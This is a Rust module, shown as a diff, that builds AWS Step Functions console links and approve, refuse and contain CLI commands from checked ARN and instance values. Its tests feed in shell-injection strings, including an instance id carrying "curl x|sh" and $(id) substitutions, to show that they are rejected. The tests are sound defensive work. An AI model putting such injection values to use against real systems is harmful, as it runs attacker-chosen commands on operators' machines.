@@ -1,0 +1,267 @@
+//! The execution a message is about, and what can be built from its ARN: the console's link, and commands to paste.
+//!
+//! A command consists of checked values only. What fails its check is in no command at all.
+
+use containment::{check_account, check_instance_id, check_region};
+use serde_json::{Value, json};
+
+use crate::quoted::{Text, clean};
+
+/// An execution of the state machine.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub(crate) struct Execution {
+    /// Its ARN; cleaned, but not checked.
+    pub(crate) id: String,
+    /// When it was started, if the event says so.
+    pub(crate) start_time: Option<String>,
+    home: Option<Home>,
+}
+
+/// What the ARN says, every part of it checked.
+#[derive(Debug, Clone, PartialEq)]
+struct Home {
+    partition: String,
+    region: String,
+    account: String,
+    state_machine: String,
+    /// The execution's own name, if it needs no quoting anywhere. The starter chooses it, in any script.
+    name: Option<String>,
+}
+
+/// An instance, as far as an event names one. What fails its check is kept only to be quoted.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub(crate) struct Instance {
+    pub(crate) id: Option<String>,
+    pub(crate) account: Option<String>,
+    pub(crate) region: Option<String>,
+    said: String,
+}
+
+impl Execution {
+    /// From `{"Id": …, "StartTime": …}`.
+    pub(crate) fn read(value: &Value) -> Execution {
+        let start = value["StartTime"].as_str().map(|time| clean(time, 40));
+        Execution::new(value["Id"].as_str().unwrap_or_default(), start)
+    }
+
+    /// From its ARN.
+    pub(crate) fn new(arn: &str, start_time: Option<String>) -> Execution {
+        Execution { id: clean(arn, 512), start_time, home: home(arn) }
+    }
+
+    /// Cordon's own account.
+    pub(crate) fn account(&self) -> Option<&str> {
+        self.home.as_ref().map(|home| home.account.as_str())
+    }
+
+    /// The state machine's ARN.
+    pub(crate) fn state_machine_arn(&self) -> Option<String> {
+        let Home { partition, region, account, state_machine, .. } = self.home.as_ref()?;
+        Some(format!("arn:{partition}:states:{region}:{account}:stateMachine:{state_machine}"))
+    }
+
+    /// The execution's page in the console.
+    pub(crate) fn console(&self) -> Option<String> {
+        let Home { partition, region, account, state_machine, name } = self.home.as_ref()?;
+        let console = match partition.as_str() {
+            "aws" => "console.aws.amazon.com",
+            "aws-cn" => "console.amazonaws.cn",
+            "aws-us-gov" => "console.amazonaws-us-gov.com",
+            _ => return None,
+        };
+        let arn = format!("arn:{partition}:states:{region}:{account}:execution:{state_machine}:{}", name.as_ref()?);
+        Some(format!("https://{region}.{console}/states/home?region={region}#/v2/executions/details/{arn}"))
+    }
+
+    /// The command that approves.
+    pub(crate) fn approve(&self, token: &str) -> Option<String> {
+        let (region, token) = (&self.home.as_ref()?.region, checked_token(token)?);
+        Some(format!(
+            "aws stepfunctions send-task-success --region {region} --task-token '{token}' --task-output '{{\"Approved\":true}}'"
+        ))
+    }
+
+    /// The command that refuses.
+    pub(crate) fn refuse(&self, token: &str) -> Option<String> {
+        let (region, token) = (&self.home.as_ref()?.region, checked_token(token)?);
+        Some(format!(
+            "aws stepfunctions send-task-failure --region {region} --task-token '{token}' --error Refused --cause 'why'"
+        ))
+    }
+
+    /// The command that contains an instance by hand.
+    pub(crate) fn contain(&self, instance: &Instance) -> Option<String> {
+        let (region, arn) = (&self.home.as_ref()?.region, self.state_machine_arn()?);
+        let Instance { id: Some(id), account: Some(account), region: Some(of), .. } = instance else { return None };
+        let input = format!("{{\"InstanceIds\":[\"{id}\"],\"Region\":\"{of}\",\"AccountId\":\"{account}\"}}");
+        Some(format!("aws stepfunctions start-execution --region {region} --state-machine-arn {arn} --input '{input}'"))
+    }
+}
+
+impl Instance {
+    /// From an object with `InstanceId`, `AccountId` and `Region`, each of which may be missing.
+    pub(crate) fn read(value: &Value) -> Instance {
+        let text = |name: &str| value[name].as_str().unwrap_or_default();
+        Instance::new(text("InstanceId"), text("AccountId"), text("Region"))
+    }
+
+    /// From texts that anybody may have chosen.
+    pub(crate) fn new(id: &str, account: &str, region: &str) -> Instance {
+        Instance {
+            id: check_instance_id("InstanceId", id).is_ok().then(|| id.to_owned()),
+            account: check_account("AccountId", account).is_ok().then(|| account.to_owned()),
+            region: check_region("Region", region).is_ok().then(|| region.to_owned()),
+            said: clean(id, 80),
+        }
+    }
+
+    /// Whether the event names an instance here, readable or not.
+    pub(crate) fn is_named(&self) -> bool {
+        !self.said.is_empty()
+    }
+
+    /// The id, or a phrase instead of one that can't be read.
+    pub(crate) fn name(&self) -> &str {
+        self.id.as_deref().unwrap_or("an instance whose id cannot be read")
+    }
+
+    /// The id, Region and account in words; an id that fails its check as a quotation.
+    pub(crate) fn place(&self) -> Text {
+        let id = match &self.id {
+            Some(id) => Text::ours(id),
+            None if self.said.is_empty() => Text::ours("an instance without an id"),
+            None => Text::ours("what is no instance id, ").quoting(&self.said),
+        };
+        id.and(self.surroundings())
+    }
+
+    /// Region and account, to be put behind the id.
+    pub(crate) fn surroundings(&self) -> String {
+        match (&self.region, &self.account) {
+            (Some(region), Some(account)) => format!(" in {region} (account {account})"),
+            (Some(region), None) => format!(" in {region}"),
+            (None, Some(account)) => format!(" (account {account})"),
+            (None, None) => String::new(),
+        }
+    }
+
+    /// The fields that passed their check, and for the id what was said instead.
+    pub(crate) fn to_json(&self) -> Value {
+        let id = self.id.clone().or_else(|| self.is_named().then(|| self.said.clone()));
+        let fields = [("InstanceId", &id), ("AccountId", &self.account), ("Region", &self.region)];
+        fields.into_iter().filter_map(|(name, value)| Some((name.to_owned(), json!(value.as_ref()?)))).collect()
+    }
+}
+
+/// The token, if it can stand between single quotes: what Step Functions makes is base64.
+pub(crate) fn checked_token(token: &str) -> Option<&str> {
+    let good = |b: u8| b.is_ascii_alphanumeric() || b"+/=_.:-".contains(&b);
+    let starts_well = token.bytes().next().is_some_and(|b| b.is_ascii_alphanumeric());
+    (starts_well && token.len() <= 2_048 && token.bytes().all(good)).then_some(token)
+}
+
+fn home(arn: &str) -> Option<Home> {
+    let mut parts = arn.splitn(8, ':');
+    let mut part = || parts.next();
+    let ("arn", partition, "states") = (part()?, part()?, part()?) else { return None };
+    let (region, account, "execution", state_machine) = (part()?, part()?, part()?, part()?) else { return None };
+    let checked = partition.starts_with("aws")
+        && partition.bytes().all(|b| b.is_ascii_lowercase() || b == b'-')
+        && check_region("Region", region).is_ok()
+        && check_account("AccountId", account).is_ok()
+        && is_plain(state_machine);
+    checked.then(|| Home {
+        partition: partition.to_owned(),
+        region: region.to_owned(),
+        account: account.to_owned(),
+        state_machine: state_machine.to_owned(),
+        name: part().filter(|name| is_plain(name)).map(ToOwned::to_owned),
+    })
+}
+
+fn is_plain(name: &str) -> bool {
+    (1..=80).contains(&name.len()) && name.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const ARN: &str = "arn:aws:states:ap-northeast-1:111122223333:execution:cordon-contain:run_1";
+
+    fn instance() -> Instance {
+        Instance::new("i-0123456789abcdef0", "444455556666", "eu-west-1")
+    }
+
+    #[test]
+    fn commands_go_to_cordons_region_and_name_the_state_machine_and_the_instance() {
+        let execution = Execution::new(ARN, None);
+        assert_eq!(
+            execution.approve("AAAA+/=").expect("a command"),
+            "aws stepfunctions send-task-success --region ap-northeast-1 --task-token 'AAAA+/=' \
+             --task-output '{\"Approved\":true}'"
+        );
+        assert_eq!(
+            execution.refuse("AAAA").expect("a command"),
+            "aws stepfunctions send-task-failure --region ap-northeast-1 --task-token 'AAAA' --error Refused --cause 'why'"
+        );
+        assert_eq!(
+            execution.contain(&instance()).expect("a command"),
+            "aws stepfunctions start-execution --region ap-northeast-1 --state-machine-arn \
+             arn:aws:states:ap-northeast-1:111122223333:stateMachine:cordon-contain --input \
+             '{\"InstanceIds\":[\"i-0123456789abcdef0\"],\"Region\":\"eu-west-1\",\"AccountId\":\"444455556666\"}'"
+        );
+    }
+
+    #[test]
+    fn nothing_that_a_shell_would_obey_gets_into_a_command() {
+        let execution = Execution::new(ARN, None);
+        let long = "A".repeat(2_049);
+        for token in ["", "a'b", "a b", "$(id)", "a`id`", "a\nb", "a;b", "-v", "é", long.as_str()] {
+            assert_eq!((execution.approve(token), execution.refuse(token)), (None, None), "{token:?}");
+        }
+        for hostile in ["i-0123abcd'; curl x|sh; '", "i-0123abcd\n", ""] {
+            assert_eq!(execution.contain(&Instance { ..Instance::new(hostile, "444455556666", "eu-west-1") }), None);
+        }
+        assert_eq!(execution.contain(&Instance::new("i-0123abcd", "44445555666'", "eu-west-1")), None);
+        assert_eq!(execution.contain(&Instance::new("i-0123abcd", "444455556666", "eu-west-1' ")), None);
+        for arn in [
+            "arn:aws:states:eu-west-1:111122223333:execution:a'b:run",
+            "arn:aws:states:eu-west-1$(id):111122223333:execution:a:run",
+            "arn:aws:states:eu-west-1:1:execution:a:run",
+            "arn:evil:states:eu-west-1:111122223333:execution:a:run",
+            "arn:aws:states:eu-west-1:111122223333:stateMachine:a:run",
+            "",
+        ] {
+            let execution = Execution::new(arn, None);
+            assert_eq!((execution.approve("AAAA"), execution.contain(&instance())), (None, None), "{arn:?}");
+            assert_eq!(execution.console(), None, "{arn:?}");
+        }
+    }
+
+    #[test]
+    fn the_console_is_that_of_the_partition() {
+        let link = |arn: &str| Execution::new(arn, None).console();
+        assert_eq!(
+            link(ARN).expect("a link"),
+            format!(
+                "https://ap-northeast-1.console.aws.amazon.com/states/home?region=ap-northeast-1#/v2/executions/details/{ARN}"
+            )
+        );
+        let china = link("arn:aws-cn:states:cn-north-1:111122223333:execution:c:r").expect("a link");
+        assert!(
+            china.starts_with("https://cn-north-1.console.amazonaws.cn/states/home?region=cn-north-1#/"),
+            "{china}"
+        );
+        let gov = link("arn:aws-us-gov:states:us-gov-west-1:111122223333:execution:c:r").expect("a link");
+        assert!(gov.starts_with("https://us-gov-west-1.console.amazonaws-us-gov.com/states/home?"), "{gov}");
+        assert_eq!(link("arn:aws-iso:states:us-iso-east-1:111122223333:execution:c:r"), None);
+    }
+
+    #[test]
+    fn an_execution_with_a_name_that_needs_quoting_has_commands_but_no_link() {
+        let execution = Execution::new("arn:aws:states:eu-west-1:111122223333:execution:cordon:夜の'対応", None);
+        assert_eq!(execution.console(), None);
+        assert!(!execution.approve("AAAA").expect("a command").contains("対応"));
+    }
+}
